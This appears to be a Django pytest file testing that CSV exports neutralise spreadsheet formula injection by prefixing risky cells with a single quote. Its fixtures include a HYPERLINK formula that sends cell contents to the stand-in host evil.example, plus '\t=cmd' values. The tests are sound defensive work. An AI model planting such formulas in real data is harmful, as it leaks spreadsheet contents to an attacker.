"""CSV injection: every CSV the platform writes neutralises cells that a spreadsheet would run as
a formula (OWASP: a single quote in front), through core.csvexport."""

import csv
import io
import json

import pytest
from django.urls import reverse

from core.csvexport import safe_cell
from tests.factories import UserFactory
from tests.ideas.factories import IdeaFactory
from tests.sessions.factories import RegistrationFactory, SessionFactory

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")'


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"), ("+31 6 1234", "'+31 6 1234"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Gewoon = tekst", "Gewoon = tekst"), ("", ""), (None, ""), (12, "12"),
    ],
)  # fmt: skip
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _rows(content: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.lstrip("\ufeff"))))


@pytest.mark.django_db
def test_open_data_csv_neutralises_formulas(client):
    IdeaFactory(title=FORMULA, text="@SUM(1)", submitter_name="-1")
    response = client.get(reverse("open_data_contributions_csv"))
    row = _rows(b"".join(response.streaming_content).decode())[0]
    assert row["title"] == "'" + FORMULA
    assert row["text"] == "'@SUM(1)"
    # JSON is data, not a spreadsheet: it keeps the text as typed.
    raw = b"".join(client.get(reverse("open_data_contributions_json")).streaming_content)
    assert json.loads(raw)[0]["title"] == FORMULA


@pytest.mark.django_db
def test_staff_participants_csv_neutralises_formulas(client, totp):
    session = SessionFactory()
    RegistrationFactory(session=session, arrival=1, person__name=FORMULA, organisation_name="+31 evil",
                        dietary_wishes="\t=cmd")  # fmt: skip
    client.force_login(totp(UserFactory(role="moderator")))
    response = client.get(reverse("sessions:staff_participants_csv", args=[session.slug]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + FORMULA and rows[1][2] == "'+31 evil" and "'\t=cmd" in rows[1]
